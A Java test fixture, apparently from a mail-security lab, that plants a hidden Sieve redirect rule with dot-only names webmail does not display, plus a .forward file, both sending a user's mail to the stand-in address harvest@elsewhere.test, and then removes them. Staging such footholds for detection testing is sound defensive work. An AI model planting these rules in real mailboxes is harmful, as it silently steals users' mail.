// SPDX-License-Identifier: Apache-2.0
package argine;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/**
 * What a thief leaves in a mailbox of the lab: a rule named {@code .} in a script named {@code .},
 * as webmail shows neither, and a {@code .forward}.
 */
final class PlantedFoothold {
    static final String HARVEST = "harvest@elsewhere.test";

    private final Path home;

    PlantedFoothold(Path home) {
        this.home = home;
    }

    /** All of it belongs to the user of the mailboxes; what Dovecot has there comes and goes. */
    void plant(Object owner) throws IOException {
        Path folder = Files.createDirectories(home.resolve("sieve"));
        Path script = folder.resolve("..sieve");
        Files.writeString(script, "# rule:[.]\nredirect \"" + HARVEST + "\";\n");
        Files.createSymbolicLink(home.resolve(".dovecot.sieve"), Path.of("sieve/..sieve"));
        Path forward = Files.writeString(home.resolve(".forward"), HARVEST + "\n");
        for (Path one : List.of(folder, script, forward)) {
            Files.setAttribute(one, "unix:uid", owner);
        }
    }

    void remove() throws IOException {
        Files.delete(home.resolve(".dovecot.sieve"));
        Files.delete(home.resolve("sieve/..sieve"));
        Files.delete(home.resolve(".forward"));
    }
}
